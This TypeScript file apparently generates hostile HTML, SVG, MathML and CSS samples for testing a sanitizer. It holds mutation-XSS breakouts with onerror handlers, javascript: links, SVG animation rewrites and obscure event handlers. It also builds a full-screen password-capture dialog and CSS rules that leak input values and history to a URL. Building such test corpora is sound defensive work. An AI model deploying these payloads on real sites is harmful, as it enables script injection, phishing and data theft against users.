import { element, sheet, svg, type Sketch } from './hostile-sketch.ts';

interface Shape {
  name: string;
  sketches: (url: string) => (Sketch | string)[];
}

const math = (tag: string, attributes: Record<string, string> = {}, ...children: (Sketch | string)[]): Sketch => ({ ...element(tag, attributes, ...children), namespace: 'mathml' });
const within = (tags: readonly string[], inner: Sketch): Sketch => tags.toReversed().reduce((child, tag) => element(tag, {}, child), inner);

/** Elements whose end, in markup, is not where it was in the tree: with these, a page that is written out and read again is another one. */
const MUTATING = ['noscript', 'plaintext', 'xmp', 'listing', 'noembed', 'noframes', 'iframe', 'textarea', 'title', 'template', 'select', 'table', 'frameset', 'svg', 'math'];
/** Handlers that browsers have since lately, or that hardly anybody knows. */
const HANDLERS = [
  'onbeforematch', 'onbeforetoggle', 'oncontentvisibilityautostatechange', 'onscrollend', 'onscrollsnapchange', 'onscrollsnapchanging', 'oncommand', 'onbeforexrselect',
  'onauxclick', 'onsecuritypolicyviolation', 'onslotchange', 'onformdata', 'onpointerrawupdate', 'onwebkitanimationstart', 'onwebkittransitionend', 'onfullscreenchange',
  'onpagereveal', 'onpageswap', 'onunhandledrejection', 'onrejectionhandled', 'onmessage', 'onstorage', 'onafterprint', 'oncopy', 'onselectstart', 'onsearch', 'onwheel',
  'onloadedmetadata', 'oncuechange', 'oncanplay', 'onprogress', 'onsuspend', 'oninvalid', 'onreset', 'ongotpointercapture', 'onbounce', 'onfinish',
];
/** Names with something before, in or after them that a check may read and a browser not, or the other way round. */
const ODD_NAMES = ['xml:base', 'xlink:href', 'XLINK:HREF', 'xlink:onload', 'svg:onload', 'on:load', 'x.onload', 'data-onload', 'aria-onload', 'on-load', 'href.', 'src:', 'xmlns:xlink', 'xmlns'];
const ODD_TAGS = ['script.', 'x-script', 'SCRIPT', 'ScRiPt', 'style.x', 'iframe-x', 'vmlframe', 'annotation-xml', 'font-face', 'color-profile'];

/** Pages that are hostile by what browsers learned lately, and by what markup becomes when it is read twice. */
export const moreShapes = (script: string): Shape[] => [
  ...HANDLERS.map((name): Shape => ({ name: `handler ${name}`, sketches: () => [element('div', { [name]: script, popover: 'auto', tabindex: '0', autofocus: '' }, 'x'), element('video', { [name]: script, src: 'x:' })] })),
  ...ODD_NAMES.map((name): Shape => ({ name: `attribute ${name}`, sketches: (url) => [element('a', { [name]: `javascript:${script}` }, 'x'), svg('svg', { [name]: url }, svg('image', { [name]: url }), svg('a', { [name]: `javascript:${script}` }))] })),
  ...ODD_TAGS.map((tag): Shape => ({ name: `element ${tag}`, sketches: (url) => [element(tag, { src: url, href: url, onload: script }, script), svg('svg', {}, svg(tag, { href: url }, script)), math('math', {}, math(tag, { encoding: 'text/html' }, element('img', { src: url, onerror: script })))] })),
  ...MUTATING.flatMap((tag): Shape[] => [
    { name: `mutation in ${tag}`, sketches: (url) => [element(tag, {}, `</${tag}><img src="${url}" onerror="${script}">`, element('p', { title: `</${tag}><img src="${url}" onerror="${script}">` }))] },
    { name: `mutation of a style in ${tag}`, sketches: (url) => [element(tag, {}, sheet(`</style></${tag}><img src="${url}" onerror="${script}">`), element('style', {}, `</style><img src="${url}">`))] },
    { name: `mutation from formulas in ${tag}`, sketches: (url) => [math('math', {}, math('mtext', {}, element(tag, {}, math('mglyph', {}, math('malignmark', {}, sheet(`--></style><img src="${url}" onerror="${script}">`))))))] },
  ]),
  { name: 'mutation of nested forms', sketches: (url) => [within(['form', 'math', 'mtext', 'form', 'mglyph', 'style'], element('img', { src: url, onerror: script }))] },
  { name: 'comment in a text', sketches: (url) => [`<!--><img src="${url}" onerror="${script}">-->`] },
  { name: 'CDATA in a text', sketches: (url) => [svg('svg', {}, svg('style', {}, `<![CDATA[</style><img src="${url}">]]>`), `<![CDATA[><img src="${url}" onerror="${script}">]]>`)] },
  { name: 'processing instruction', sketches: (url) => [`<?xml-stylesheet href="${url}" type="text/css"?>`, element('p', { title: `<?php ${script} ?>` })] },
  { name: 'conditional comment', sketches: () => [`<!--[if true]><script>${script}</script><![endif]-->`] },
  ...['open', 'closed'].flatMap((mode): Shape[] => [
    { name: `declared ${mode} shadow root`, sketches: (url) => [element('div', {}, element('template', { shadowrootmode: mode, shadowrootserializable: '', shadowrootclonable: '' }, element('script', {}, script), sheet(`*{background:url(${url})}`)))] },
  ]),
  ...['shadowrootdelegatesfocus', 'shadowrootreferencetarget', 'shadowrootadoptedstylesheets'].map((name): Shape => ({ name, sketches: (url) => [element('div', {}, element('template', { shadowrootmode: 'open', [name]: url }, element('input', { autofocus: '', onfocus: script })))] })),
  { name: 'popover that covers all', sketches: () => [element('div', { popover: 'manual', open: '', style: 'position:fixed;inset:0;z-index:2147483647', onclick: script }, 'Sign in again')] },
  { name: 'dialog over everything', sketches: (url) => [element('dialog', { open: '', closedby: 'any' }, element('form', { method: 'dialog', action: url }, element('input', { type: 'password', name: 'password', autofocus: '' })))] },
  { name: 'anchored overlay', sketches: (url) => [element('a', { style: 'anchor-name:--a', href: url }, 'x'), element('div', { style: `position:fixed;position-anchor:--a;inset:anchor(top);width:200vw;height:200vh;background:url(${url})` })] },
  { name: 'select that can be styled', sketches: (url) => [sheet(`select,::picker(select){appearance:base-select;background:url(${url})}`), element('select', {}, element('button', { onclick: script }, element('selectedcontent', { src: url })), element('option', {}, 'x'))] },
  { name: 'invoker of a dialog', sketches: () => [element('button', { commandfor: 'd', command: '--run', oncommand: script }), element('dialog', { id: 'd', oncommand: script })] },
  { name: 'interest in a target', sketches: (url) => [element('a', { href: url, interestfor: 'i' }), element('div', { id: 'i', popover: 'hint', oninterest: script })] },
  { name: 'details with a name', sketches: () => [element('details', { name: 'a', open: '', ontoggle: script }), element('details', { name: 'a', open: '', ontoggle: script })] },
  { name: 'hidden until found', sketches: (url) => [element('div', { hidden: 'until-found', onbeforematch: script }, element('img', { src: url }))] },
  { name: 'lazy frame', sketches: (url) => [element('iframe', { src: url, loading: 'eager', fetchpriority: 'high', csp: 'default-src *', referrerpolicy: 'unsafe-url' })] },
  { name: 'lazy picture', sketches: (url) => [element('img', { src: url, srcset: `${url} 1x`, sizes: 'auto', loading: 'eager', fetchpriority: 'high', decoding: 'sync', crossorigin: 'use-credentials', controlslist: url })] },
  { name: 'preloaded picture', sketches: (url) => [element('link', { rel: 'preload', as: 'image', href: url, imagesrcset: `${url} 1x`, imagesizes: '100vw' })] },
  { name: 'early hints', sketches: (url) => [element('meta', { 'http-equiv': 'Link', content: `<${url}>; rel=preload; as=script` })] },
  { name: 'prefetch of names', sketches: (url) => [element('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }), element('link', { rel: 'dns-prefetch', href: url.replace('127.0.0.1', 'canary.invalid') })] },
  ...['set-cookie', 'origin-trial', 'delegate-ch', 'accept-ch', 'default-style', 'x-ua-compatible', 'content-language', 'cache-control'].map((name): Shape => ({ name: `meta ${name}`, sketches: (url) => [element('meta', { 'http-equiv': name, content: url })] })),
  ...['theme-color', 'color-scheme', 'viewport', 'monetization', 'application-name', 'msapplication-config'].map((name): Shape => ({ name: `meta named ${name}`, sketches: (url) => [element('meta', { name, content: `${url} width=10` })] })),
  ...['monetization', 'search', 'help', 'expect', 'next', 'privacy-policy', 'subresource', 'shortcut icon', 'mask-icon', 'module', 'bundle'].map((rel): Shape => ({ name: `link ${rel}`, sketches: (url) => [element('link', { rel, href: url, blocking: 'render', as: 'fetch', onload: script })] })),
  ...['importmap', 'speculationrules', 'webbundle', 'text/javascript', 'application/ecmascript', 'text/vbscript', 'text/event-stream'].map((type): Shape => ({ name: `script ${type}`, sketches: (url) => [element('script', { type, src: url, async: '', blocking: 'render' }, `{"prerender":[{"urls":["${url}"]}],"source":"${url}"}`)] })),
  ...['blob:null/x', 'filesystem:http://x/y', 'view-source:x', 'chrome://settings', 'about:srcdoc', 'vbscript:x', 'ftp://127.0.0.1/', 'ws://127.0.0.1/', 'data:,x', 'intent:x', 'cid:x', '//127.0.0.1/x', '\\\\127.0.0.1\\x'].map(
    (address): Shape => ({ name: `address ${address}`, sketches: () => [element('iframe', { src: address }), element('object', { data: address }), element('img', { src: address }), element('a', { href: address, autofocus: '', accesskey: 'a' }, 'x'), sheet(`@import "${address}";*{background:url("${address}")}`)] }),
  ),
  ...['animate', 'set', 'animateTransform', 'animateMotion', 'discard'].flatMap((tag): Shape[] => [
    { name: `${tag} of a link`, sketches: () => [svg('svg', {}, svg('a', { id: 'l', href: '#x' }, svg('text', {}, 'x')), svg(tag, { href: '#l', attributeName: 'href', to: `javascript:${script}`, values: `javascript:${script}`, begin: '0s', fill: 'freeze', onbegin: script }))] },
    { name: `${tag} of a style`, sketches: (url) => [svg('svg', {}, svg('rect', { width: '9', height: '9' }, svg(tag, { attributeName: 'style', to: `fill:url(${url}#x)`, begin: '0s', onend: script }), svg(tag, { attributeName: 'class', to: 'x' })))] },
  ]),
  { name: 'foreign HTML in a drawing', sketches: (url) => [svg('svg', {}, svg('foreignObject', { width: '9', height: '9', requiredExtensions: 'http://www.w3.org/1999/xhtml' }, element('iframe', { src: url, srcdoc: `<script>${script}</script>` }), element('script', {}, script)))] },
  { name: 'drawing that uses itself', sketches: () => [svg('svg', { id: 's' }, svg('use', { href: '#s' }), svg('g', { id: 'g' }, svg('use', { href: '#g' })))] },
  { name: 'drawing in data that is used', sketches: () => [svg('svg', {}, svg('use', { href: `data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${script}</script></svg>#x` }))] },
  { name: 'filter with a picture', sketches: (url) => [svg('svg', {}, svg('filter', { id: 'f' }, svg('feImage', { href: url, 'xlink:href': url })), svg('rect', { width: '9', height: '9', filter: 'url(#f)' }))] },
  { name: 'video in a drawing', sketches: (url) => [svg('svg', {}, svg('video', { src: url, autoplay: '' }), svg('audio', { src: url }), svg('canvas'), svg('iframe', { src: url }))] },
  { name: 'formula with an action', sketches: (url) => [math('math', {}, math('maction', { actiontype: 'statusline#x', 'xlink:href': `javascript:${script}`, href: url }, math('mtext', { href: `javascript:${script}` }, 'x')), math('semantics', {}, math('annotation', { src: url, encoding: 'text/html' }), math('annotation-xml', { encoding: 'application/xhtml+xml', src: url }, element('script', {}, script))))] },
];

/** Style sheets of what browsers learned lately, and of what a page may ask of what it holds. */
export const moreSheets = (url: string): string[] => [
  `body{background:image-set(url(${url}) 1x,url(${url}?2) 2x)}`,
  `body{background:paint(x),url(${url})}`,
  `body{background:light-dark(url(${url}),url(${url}))}`,
  `body{background:if(else:url(${url}))}`,
  `body{background:attr(data-x type(<url>),url(${url}))}`,
  `body{--a:${url};background:url(var(--a))}`,
  `body{--a:"${url}";background:src(var(--a))}`,
  `body{background:cross-fade(url(${url}) 50%,url(${url}) 50%)}`,
  `body{background:conic-gradient(red,blue),url(${url})}`,
  `body{background:-webkit-canvas(x),-moz-element(#x),url(${url})}`,
  `::view-transition-old(root){background:url(${url})}html{view-transition-name:x}`,
  `::picker-icon,::checkmark,::details-content,::scroll-marker,::column{content:url(${url})}`,
  `::selection,::target-text,::spelling-error,::highlight(x){background:url(${url})}`,
  `::file-selector-button,::-webkit-scrollbar,::-webkit-scrollbar-thumb{background:url(${url})}`,
  `::backdrop{background:url(${url})}`,
  `::first-letter,::first-line,::cue{background:url(${url})}`,
  `:host{background:url(${url})}::slotted(*){background:url(${url})}::part(x){background:url(${url})}`,
  `:visited{background:url(${url})}:autofill{background:url(${url})}:focus-within{background:url(${url})}`,
  `body:has(input[value*="a" i]),form:has(:checked){background:url(${url}?has)}`,
  ...['^=', '$=', '*=', '~=', '|='].map((operator) => `[value${operator}"a"],[title${operator}"a"]{list-style:url(${url}?${encodeURIComponent(operator)});display:list-item}`),
  `@font-face{font-family:a;src:url(${url});unicode-range:U+0041}@font-face{font-family:a;src:url(${url}?b);unicode-range:U+0042}*{font-family:a}`,
  `@font-face{font-family:a;src:url(${url}) format(woff2) tech(color-COLRv1),url(//127.0.0.1/b)}*{font:1em a}`,
  `@font-palette-values --a{font-family:a;base-palette:1}@font-feature-values a{@swash{x:1}}*{background:url(${url})}`,
  `@position-try --a{inset-area:top;background:url(${url})}`,
  `@when media(width>0){*{background:url(${url})}}@else{*{background:url(${url})}}`,
  `@supports selector(a:has(b)){*{background:url(${url})}}`,
  `@container style(--a:b){*{background:url(${url})}}@container scroll-state(stuck:top){*{background:url(${url})}}`,
  `@layer a{@layer b{*{background:url(${url})}}}`,
  `@media (prefers-color-scheme:light){a{&:hover,& b{background:url(${url})}c{mask:url(${url})}}}`,
  `a{@media all{background:url(${url})}}body{&{background:url(${url})}@supports (a:b){background:url(${url})}}`,
  `@custom-selector :--a a;@apply --x;@mixin --m{background:url(${url})}`,
  `@charset "utf-7";+ACo-{background:url(${url})}`,
  `\ufeff@import url(${url});`,
  `*{background:ur\\l(${url})}`,
  `*{background:url(\\\n${url})}`,
  `*{background:url(${url}\\)}*{background:url(${url})}`,
  `*{background:URL(${url})}*{background:uRl( "${url}" )}*{background:\\55RL(${url})}`,
  `*{background:url(/**/${url})}*{background:url/**/(${url})}`,
  `}*{background:url(${url})}`,
  `{}*{background:url(${url})}`,
  `@media{*{background:url(${url})}`,
  `a[b="]{background:url(${url})}/*"]{}`,
  `/*\u0000*/*{background:url(${url})}/*`,
  `--x:{background:url(${url})};*{color:red}`,
];
